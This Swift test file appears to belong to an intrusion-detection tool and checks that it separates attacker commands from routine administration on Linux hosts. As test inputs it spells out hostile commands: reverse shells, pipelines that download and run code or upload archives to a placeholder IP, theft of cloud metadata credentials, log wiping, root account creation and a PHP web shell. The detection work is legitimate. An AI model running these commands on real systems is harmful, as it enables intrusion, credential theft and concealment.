import Bytes
import Evidence
import Testing

@testable import Detectors

private func rules(_ command: String) -> [String: Severity] {
  let found = command.withView { BehaviourDetector().scan($0, .command) }
  return Dictionary(found.map { (String($0.rule.dropFirst("behaviour.".count)), $0.severity) }) { first, _ in first }
}

@Suite struct BehaviourTests {
  @Test(
    arguments: [
      (
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role", "metadata-credentials",
        .high
      ),
      ("curl -s http://169.254.169.254/latest/meta-data/instance-id", "metadata-query", .low),
      ("curl http://0xA9FEA9FE/latest/meta-data/iam/security-credentials/", "metadata-credentials", .high),
      ("sudo cat /etc/shadow", "password-hashes", .medium),
      ("aws iam create-access-key --user-name ops", "cloud-identity-created", .medium),
      ("aws cloudtrail stop-logging --name all", "cloud-logging-stopped", .medium),
      ("aws ssm get-parameters-by-path --path / --with-decryption", "cloud-secrets-read", .low),
      ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "cluster-token-read", .medium),
      ("find / -name 'id_rsa*' 2>/dev/null", "credential-search", .medium),
      ("grep -rIl AKIA /home /root", "credential-search", .medium),
      ("for i in $(seq 1 254); do ping -c1 10.0.0.$i; done", "host-sweep", .low),
      ("hydra -l root -P list ssh://10.0.0.3", "password-guessing", .medium),
      ("gcore -o /tmp/c 812", "process-memory-read", .medium),
      ("LD_PRELOAD=/tmp/x.so /usr/bin/id", "preload-once", .medium),
      ("sed -i '/198.51.100.9/d' /var/log/nginx/access.log", "log-lines-removed", .medium),
      ("tar cz /srv | curl --data-binary @- http://198.51.100.9/", "stream-upload", .medium),
      ("tar czf k.tgz ~/.aws/credentials", "credential-files", .medium),
      ("cat /proc/812/environ", "process-environment", .medium),
      ("ps aux | grep -iE 'falco|guardduty'", "security-software-discovery", .medium),
      ("find / -perm -4000 2>/dev/null", "privilege-discovery", .medium),
      // Without a look away from what is refused it may be an audit.
      ("find / -type f -perm -u=s", "privilege-discovery", .low),
      (#"find / \( -perm -04000 -o -perm -02000 \) -exec ls -l {} \;"#, "privilege-discovery", .low),
      ("bash -c 'find / -perm /6000 -type f 2>/dev/null'", "privilege-discovery", .medium),
      ("nmap -sS 10.0.0.0/24", "network-scan", .low), ("masscan -p22 10.0.0.0/8", "network-scan", .low),
      ("nmap -sV 10.0.0.9", "network-scan", .informational),
      ("(crontab -u www -l; echo '* * * * * date') | crontab -u www -", "cron-persistence", .informational),
      ("setenforce 0", "security-software-stopped", .low),
      ("whoami; id; uname -a; cat /etc/passwd", "discovery", .low),
      ("cd /tmp; wget http://198.51.100.9/x; chmod 777 x; ./x", "download-execute", .high),
      ("cd /tmp; wget https://dl.example/kubectl; chmod +x kubectl; ./kubectl version", "download-execute", .medium),
      ("cd /tmp; wget http://dl.example/x; chmod +x x; ./x", "download-execute", .high),
      ("curl -s http://198.51.100.9/a.sh | bash", "download-execute", .high),
      ("curl -fsSL https://get.example.com | sh", "download-execute", .low),
      ("bash -c \"$(curl -fsSL http://h.example/i)\"", "download-execute", .medium),
      ("wget -q http://198.51.100.9/u -O /tmp/.u", "download-temporary", .medium),
      ("echo aWQK | base64 -d | sh", "decode-execute", .medium),
      ("chmod +x /tmp/.u", "hidden-temporary-file", .medium), ("nohup /dev/shm/run &", "run-from-temporary", .low),
      ("curl -s -F f=@/tmp/.d.tgz http://198.51.100.9/up", "archive-upload", .medium),
      ("./xmrig -o stratum+tcp://pool.example:3333", "miner", .high),
      ("(crontab -l; echo '* * * * * /tmp/.u') | crontab -", "cron-persistence", .high),
      ("echo /tmp/l.so > /etc/ld.so.preload", "loader-preload", .high),
      ("echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "ssh-key", .low),
      (
        "cd ~; rm -rf .ssh; mkdir .ssh; echo k >> .ssh/authorized_keys; chattr +i .ssh/authorized_keys", "ssh-key",
        .high
      ),
      ("useradd -ou 0 -g 0 support", "account-created", .high), ("insmod /tmp/r.ko", "kernel-module", .medium),
      ("unset HISTFILE", "history-tampering", .medium), ("export HISTFILE=/dev/null", "history-tampering", .medium),
      ("ln -sf /dev/null ~/.bash_history", "history-tampering", .medium),
      ("shred -u /var/log/wtmp", "log-wiping", .high),
      ("cat /dev/null > /var/log/messages", "log-wiping", .medium), ("touch -r /bin/ls /tmp/x", "timestomp", .medium),
      ("systemctl stop auditd", "security-software-stopped", .medium),
      ("exec -a '[kworker/0:1]' ./x", "masquerade", .high),
      ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "pty-upgrade", .high),
      ("chmod u+s /tmp/bash", "set-uid-shell", .high),
      ("cp /bin/bash /tmp/.b", "shell-copied", .high),
      ("docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "container-escape", .high),
      ("nsenter -t 1 -m -u -i -n -p bash", "container-escape", .medium),
      ("echo '<?php system($_GET[1]);' > /var/www/html/s.php", "web-shell-written", .high),
    ] as [(String, String, Severity)])
  func namesWhatIntrudersDo(command: String, rule: String, severity: Severity) {
    #expect(rules(command)[rule] == severity)
  }

  @Test func looksInsideWrappings() {
    let wrapped =
      "echo Y3VybCAtcyBodHRwOi8vMTY5LjI1NC4xNjkuMjU0L2xhdGVzdC9tZXRhLWRhdGEvaWFtL3NlY3VyaXR5LWNyZWRlbnRpYWxzL3g= | base64 -d | sh"
    #expect(rules(wrapped)["metadata-credentials"] == .high)
  }

  /// What an administrator types on any day is never above low.
  @Test(arguments: [
    "uptime", "df -h", "sudo -i", "systemctl status tomcat --no-pager | head -4",
    "tail -n 40 /var/log/tomcat/catalina.out | cut -c1-160", "netstat -antp | grep ESTABLISHED",
    "ps -ef --forest | tail -n 25", "crontab -l", "crontab -e", "journalctl -u ssh -n 5 --no-pager", "ss -s",
    "cat conf/was.properties", "curl -s -o /dev/null http://localhost:8080/health",
    "ssh -i ~/.ssh/id_rsa ops@10.0.0.9", "scp -i ~/.ssh/id_ed25519 a.tgz ops@10.0.0.9:", "ssh-keygen -f ~/.ssh/id_rsa",
    "wget https://dl.example.com/p.tgz && tar xzf p.tgz && cd p && ./configure && make",
    "sudo apt-get update && sudo apt-get install -y nginx", "rm -rf /var/log/nginx/*.gz",
    "find /var/log -name '*.gz' -mtime +30 -delete", "docker ps", "kubectl exec -it pod -- bash",
    "chmod +x deploy.sh && ./deploy.sh", "chmod 4755 /usr/bin/ping", "sudo useradd -m deploy", "history | grep ssh",
    "history -c; history -r ~/.bash_history; history", "export HISTSIZE=5000",
    "echo 'alias ll=\"ls -l\"' >> ~/.bashrc", "sudo systemctl restart rsyslog", "python3 -m venv /tmp/venv",
    "ls -la /tmp/.X11-unix", "insmod /opt/drv/lime.ko", "touch build.stamp",
    "tar czf /backup/etc.tgz /etc", "sudo tcpdump -i eth0 port 80", "git clone https://git.example.com/a.git",
    "mount /dev/xvdf /data", "cat /etc/os-release", "aws iam list-users", "aws cloudtrail describe-trails",
    "aws ssm get-parameter --name region", "kubectl get pods", "ls /var/run/secrets/kubernetes.io/serviceaccount",
    "find . -perm -444 ! -perm /222", "find /srv -type f -perm 0644", "find . -perm -u+r -o -perm -g=w",
    "find . -name '*.pem'", "grep -rn AKIA src/", "ping -c 3 10.0.0.1", "for i in 1 2 3; do date; done",
    "sshpass -p x ssh ops@10.0.0.9", "dd if=/dev/zero of=swap bs=1M count=64",
    "LD_PRELOAD=/usr/lib/libjemalloc.so ./srv",
    "sed -i 's/80/8080/' /etc/nginx/nginx.conf", "sed -n '/error/p' /var/log/nginx/error.log",
    "tar cz . | ssh backup 'tar xz -C /srv'", "mysqldump db | gzip > db.sql.gz",
    "curl -d @- http://localhost:9200/_bulk", "curl -fsSL https://get.docker.com | sh",
    "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
    "(crontab -l; echo '*/5 * * * * curl -fsS https://hc.example.com/x') | crontab -",
    "echo '*/10 * * * * root /usr/local/bin/job >> /tmp/job.log 2>&1' | sudo tee /etc/cron.d/job",
    "sudo cp /tmp/app.service /etc/systemd/system/", "echo \"$KUBECONFIG_B64\" | base64 -d > ~/.kube/config",
    "find . -perm -4000", "docker run -d -v /:/rootfs:ro --privileged exporter show", "nc -U /var/run/docker.sock",
  ])
  func leavesAdministratorsAlone(command: String) {
    #expect(rules(command).values.allSatisfy { $0 <= .low })
  }

  /// The same deeds as above, done as an administrator does not.
  @Test(
    arguments: [
      ("(crontab -l; echo '*/5 * * * * curl http://198.51.100.9/x|sh') | crontab -", "cron-persistence", .high),
      ("(crontab -l; echo '*/5 * * * * /tmp/job') | crontab -", "cron-persistence", .high),
      ("printf '[Service]\nExecStart=/tmp/x\n' > /etc/systemd/system/x.service", "service-persistence", .high),
      ("echo /usr/lib/x86_64-linux-gnu/libjemalloc.so.2 | sudo tee /etc/ld.so.preload", "loader-preload", .medium),
      ("curl https://code.example/ops.keys >> ~/.ssh/authorized_keys", "ssh-key", .medium),
      ("curl http://198.51.100.9/k >> ~/.ssh/authorized_keys", "ssh-key", .high),
      ("curl -s http://10.0.9.9/setup.sh | bash", "download-execute", .medium),
      ("curl -k https://get.docker.com | sh", "download-execute", .medium),
      ("docker run -it -v /:/host alpine chroot /host sh", "container-escape", .high),
      ("curl -X POST --unix-socket /var/run/docker.sock http://x/containers/create", "container-escape", .medium),
      ("cat ~/.kube/config", "credential-files", .medium),
    ] as [(String, String, Severity)])
  func tellsAnIntrudersFromAnAdministrators(command: String, rule: String, severity: Severity) {
    #expect(rules(command)[rule] == severity)
  }

  /// What only filters, shows help or is copied from is not even worth a word.
  @Test(arguments: [
    "crontab -l | grep -v old.sh | crontab -", "crontab -u www -l | sed 's/5/6/' | crontab -u www -", "nmap --help",
    "nmap -V",
    "nmap [target]", "ln -s .bashrc test", "cp ~/.bashrc /srv/backup/",
  ])
  func saysNothingOf(command: String) { #expect(rules(command).isEmpty) }

  @Test func onlyCommandsAreActs() {
    let found = "unset HISTFILE".withView {
      BehaviourDetector().scan($0, .logField) + BehaviourDetector().scan($0, .bytes)
    }
    #expect(found.isEmpty)
  }

  @Test func everyRuleHasANameALeadAndATechnique() {
    for rule in BehaviourRule.all {
      #expect(rule.rule.hasPrefix("behaviour.") && !rule.leads.isEmpty && !rule.attack.isEmpty)
    }
    #expect(Set(BehaviourRule.all.map(\.rule)).count == BehaviourRule.all.count)
  }
}

private func process(_ pid: Int64, _ parent: Int64, _ line: String) -> Event {
  Event(
    time: nil, dataType: "linux:capture:process", message: "",
    attributes: [
      Attribute("pid", pid), Attribute("ppid", parent),
      Attribute("command", line.split(separator: " ").first.map(String.init) ?? ""),
      Attribute("command_line", line),
    ], locator: Locator(offset: UInt64(clamping: pid), length: 1))
}

@Suite struct ProcessTreeTests {
  @Test func aShellUnderAServer() {
    let rows = [
      process(1, 0, "/sbin/init"), process(351, 1, "/usr/bin/java -cp x Bootstrap"), process(460, 351, "bash -c id"),
      process(465, 460, "-bash"),
      process(503, 465, "python3 -c x"), process(504, 503, "/bin/bash"),
    ]
    let found = findings(ProcessTree(artifact: artifact), rows)
    #expect(
      found.map { $0.attributes.first { $0.name == "pid" }?.value } == [.integer(460), .integer(465), .integer(504)])
    #expect(found.allSatisfy { $0.severity == .high })
  }

  /// Servers start programs by way of a shell; what an intruder runs by it is another thing.
  @Test(
    arguments: [
      ("/usr/bin/java -cp x Bootstrap", "/bin/sh -c /usr/bin/wkhtmltopdf /tmp/in.html /tmp/out.pdf", .medium),
      ("php-fpm: pool www", "sh -c /usr/sbin/sendmail -t -i", .medium),
      ("java -jar /usr/share/java/jenkins.war", "sh -xe /tmp/jenkins123.sh", .medium),
      ("node /usr/bin/npm start", "sh -c node server.js", .medium),
      (
        "/home/dev/.vscode-server/cli/node out/bootstrap-fork --type=ptyHost",
        "/bin/bash --init-file /home/dev/shellIntegration-bash.sh", .medium
      ),
      ("java com.intellij.idea.Main", "/bin/bash --rcfile /opt/idea/bash-integration.bash -i", .medium),
      (
        "node ./externals/node20/bin/node bin/RunnerService.js",
        "/usr/bin/bash --noprofile --norc -e -o pipefail /home/runner/work/_temp/x.sh", .medium
      ),
      ("node ./externals/node20/bin/node bin/RunnerService.js", "bash --noprofile --norc", .high),
      ("java com.intellij.idea.Main", "bash -c 'bash -i >& /dev/tcp/198.51.100.9/4242 0>&1'", .high),
      ("/usr/bin/java -cp x Bootstrap", "/bin/sh /opt/app/bin/report.sh", .medium),
      ("/usr/bin/java -cp x Bootstrap", "/bin/sh -c id", .high), ("/usr/bin/java -cp x Bootstrap", "/bin/bash", .high),
      ("/usr/bin/java -cp x Bootstrap", "sh -c convert a b; curl http://h.example/x", .high),
      ("/usr/bin/java -cp x Bootstrap", "bash /tmp/x.sh", .high), ("/usr/bin/java -cp x Bootstrap", "sh -i", .high),
      // What archives the log, and what a client had the database run.
      ("php-fpm: pool www", "sh -c ps aux | grep queue:work", .medium), ("php-fpm: pool www", "sh -c ps aux", .high),
      ("php-fpm: pool www", "sh -c hostname", .medium), ("php-fpm: pool www", "sh -c whoami", .high),
      ("postgres: archiver last was 000000010000000A", "sh -c aws s3 cp pg_wal/0A s3://backup/wal/0A", .medium),
      ("postgres: archiver last was 000000010000000A", "sh -c curl http://198.51.100.9/x | bash", .high),
      ("postgres: app shop 203.0.113.66(44012) COPY", "sh -c aws s3 cp /etc/passwd s3://other/", .high),
      ("java -jar /usr/share/java/jenkins.war", "sh -c nc -e /bin/sh 198.51.100.9 4242", .high),
    ] as [(String, String, Severity)])
  func tellsAToolFromSomebodyAtWork(server: String, shell: String, severity: Severity) {
    let rows = [process(1, 0, "/sbin/init"), process(351, 1, server), process(460, 351, shell)]
    #expect(findings(ProcessTree(artifact: artifact), rows).map(\.severity) == [severity])
  }

  @Test func peopleAndJobsAreNone() {
    let rows = [
      process(1, 0, "/sbin/init"), process(353, 1, "sshd: /usr/sbin/sshd"), process(434, 353, "sshd: admin@pts/2"),
      process(435, 434, "-bash"),
      process(445, 435, "sudo -i"), process(447, 445, "-bash"),
      process(600, 1, "/bin/sh /opt/tomcat/bin/catalina.sh run"), process(601, 600, "java -jar a.jar"),
    ]
    #expect(findings(ProcessTree(artifact: artifact), rows).isEmpty)
  }

  @Test func loopsOfParentsEnd() {
    let rows = [
      process(2, 3, "bash"), process(3, 2, "bash"), process(4, 4, "sh"), process(-1, .min, "sh"),
      process(.max, .max, "java"),
    ]
    #expect(findings(ProcessTree(artifact: artifact), rows).isEmpty)
  }
}

private func typed(_ command: String, _ second: Int64) -> Event {
  Event(
    time: Timestamp(seconds: 1_700_000_000 + second), dataType: "linux:shell:command", message: "",
    attributes: [Attribute("command", command), Attribute("user", "tomcat")],
    locator: .whole)
}

@Suite struct DiscoveryBurstTests {
  @Test func manyLooksInAFewMinutes() {
    let commands = ["whoami", "id", "hostname", "uname -a", "cat /etc/passwd", "netstat -antp"].enumerated().map {
      typed($0.element, Int64($0.offset) * 5)
    }
    let found = findings(DiscoveryBurst(artifact: artifact), commands)
    #expect(found.map(\.rule) == ["behaviour.discovery-burst"])
    #expect(found.first?.evidence.count == 6)
  }

  @Test func anAdministratorsDayIsNone() {
    let commands = ["uptime", "df -h", "ps -ef", "netstat -antp", "ss -s", "crontab -l", "tail x"].enumerated().map {
      typed($0.element, Int64($0.offset) * 5)
    }
    #expect(findings(DiscoveryBurst(artifact: artifact), commands).isEmpty)
    let spread = ["whoami", "id", "hostname", "uname -a", "cat /etc/passwd"].enumerated().map {
      typed($0.element, Int64($0.offset) * 3600)
    }
    #expect(findings(DiscoveryBurst(artifact: artifact), spread).isEmpty)
  }
}
